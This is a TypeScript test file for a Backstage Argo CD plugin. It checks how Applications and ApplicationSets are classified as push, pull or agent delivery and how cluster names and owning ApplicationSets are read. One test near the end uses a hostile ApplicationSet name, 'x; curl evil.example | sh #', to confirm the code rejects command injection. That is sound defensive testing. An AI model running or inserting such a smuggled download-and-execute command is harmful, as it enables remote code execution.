import {
  PULL_LABEL,
  type ArgoApplication,
} from 'backstage-plugin-argocd-fleet-common';
import { application, applicationSet } from '../__testUtils__/applications';
import {
  applicationSetDeliveryModel,
  clusterNameOf,
  deliveryModel,
  isPullModel,
  owningApplicationSet,
} from './deliveryModel';

const pushed = (
  destination: ArgoApplication['spec']['destination'],
  metadata: Partial<ArgoApplication['metadata']> = {},
) =>
  application({ metadata: { labels: {}, ...metadata }, spec: { destination } });

const agentServer = 'https://principal.argocd:9090?agentName=edge-7';

const destination = { name: 'edge-7' };

/** The agent agent-7, whose cluster Argo CD knows as edge-7. */
const agents = {
  isAgent: (name: string) => name === 'agent-7',
  isAgentCluster: (name: string) => name === 'edge-7',
};

describe('the delivery model', () => {
  it.each([
    ...['1', 't', 'T', 'TRUE', 'true', 'True'].map(value => [value, 'pull']),
    ...['0', 'false', 'yes', 'tRUE', ' true', ''].map(value => [value, 'push']),
  ])('of an Application with the pull label %j is %s', (value, model) => {
    const app = application({ metadata: { labels: { [PULL_LABEL]: value } } });
    expect(deliveryModel(app)).toBe(model);
    expect(isPullModel(app)).toBe(model === 'pull');
  });

  it.each<[string, string, ArgoApplication]>([
    ['without an agent', 'push', pushed({ server: 'https://api.example' })],
    ['through an agent’s proxy', 'agent', pushed({ server: agentServer })],
    [
      'from an autonomous agent',
      'agent',
      pushed(
        { name: 'in-cluster' },
        { annotations: { 'argocd.argoproj.io/source-uid': '1' } },
      ),
    ],
    [
      'that the agent keeps on the hub',
      'push',
      pushed(
        { server: agentServer },
        { labels: { 'argocd-agent.argoproj-labs.io/ignore-sync': 'true' } },
      ),
    ],
  ])('of an Application %s is %s', (_, model, app) => {
    expect(deliveryModel(app)).toBe(model);
  });

  it.each<[string, string, ArgoApplication]>([
    ['to an agent’s cluster by name', 'agent', pushed({ name: 'edge-7' })],
    ['to another cluster by name', 'push', pushed({ name: 'edge-8' })],
    [
      'in the namespace of an agent',
      'agent',
      pushed({ name: 'in-cluster' }, { namespace: 'agent-7' }),
    ],
    [
      'in the namespace that has the name of an agent’s cluster',
      'push',
      pushed({ name: 'in-cluster' }, { namespace: 'edge-7' }),
    ],
    ['with the pull label', 'pull', application({ spec: { destination } })],
    [
      'that the agent keeps on the hub',
      'push',
      pushed(
        { name: 'edge-7' },
        { labels: { 'argocd-agent.argoproj-labs.io/ignore-sync': 'true' } },
      ),
    ],
  ])(
    'of an Application %s is %s, where the agents are known',
    (_, model, app) => {
      expect(deliveryModel(app, agents)).toBe(model);
    },
  );

  it('of an ApplicationSet without Applications is that of its template, in its namespace', () => {
    const template = { metadata: {}, spec: { destination } };
    const set = (namespace: string) => {
      const empty = applicationSet({ spec: { template } });
      return { ...empty, metadata: { ...empty.metadata, namespace } };
    };
    expect(applicationSetDeliveryModel(set('argocd'))).toBe('push');
    expect(applicationSetDeliveryModel(set('argocd'), undefined, agents)).toBe(
      'agent',
    );
  });

  it('of an ApplicationSet is that of its Applications, else that of its template', () => {
    expect(applicationSetDeliveryModel(applicationSet())).toBe('pull');
    expect(
      applicationSetDeliveryModel(
        applicationSet(),
        pushed({ server: agentServer }),
      ),
    ).toBe('agent');
    expect(applicationSetDeliveryModel(applicationSet({ spec: {} }))).toBe(
      'push',
    );
  });
});

it.each([
  ['its annotation', 'cluster1', application()],
  ['its destination’s name', 'prod', pushed({ name: 'prod' })],
  ['its agent', 'edge-7', pushed({ server: agentServer })],
  ['its destination’s server', 'https://a', pushed({ server: 'https://a' })],
])('the cluster name is read from %s', (_, expected, app) => {
  expect(clusterNameOf(app)).toBe(expected);
});

it.each([
  ['edge-7', pushed({ name: 'edge-7' })],
  ['agent-7', pushed({ name: 'in-cluster' }, { namespace: 'agent-7' })],
  ['agent-7', pushed({ server: 'https://a' }, { namespace: 'agent-7' })],
  ['agent-7', pushed(undefined, { namespace: 'agent-7' })],
  ['edge-7', pushed({ name: 'edge-7' }, { namespace: 'agent-7' })],
  ['other', pushed({ name: 'other' }, { namespace: 'edge-7' })],
  [
    'cluster1',
    application({ metadata: { namespace: 'agent-7' }, spec: { destination } }),
  ],
])('the cluster is %s, where the agents are known', (expected, app) => {
  expect(clusterNameOf(app, agents)).toBe(expected);
});

it('reads no owning ApplicationSet whose name would add to a command that shows it', () => {
  const hostile = {
    apiVersion: 'argoproj.io/v1alpha1',
    kind: 'ApplicationSet',
    name: 'x; curl evil.example | sh #',
    uid: '1',
  };
  expect(
    owningApplicationSet(
      application({ metadata: { ownerReferences: [hostile] } }),
    ),
  ).toBeUndefined();
});

it('reads the owning ApplicationSet from the owner references', () => {
  expect(owningApplicationSet(application())).toEqual({
    namespace: 'openshift-gitops',
    name: 'guestbook-allclusters-app-set',
  });
  const foreign = [
    { apiVersion: 'v1', kind: 'ApplicationSet', name: 'x', uid: '1' },
  ];
  expect(
    owningApplicationSet(
      application({ metadata: { ownerReferences: foreign } }),
    ),
  ).toBeUndefined();
});
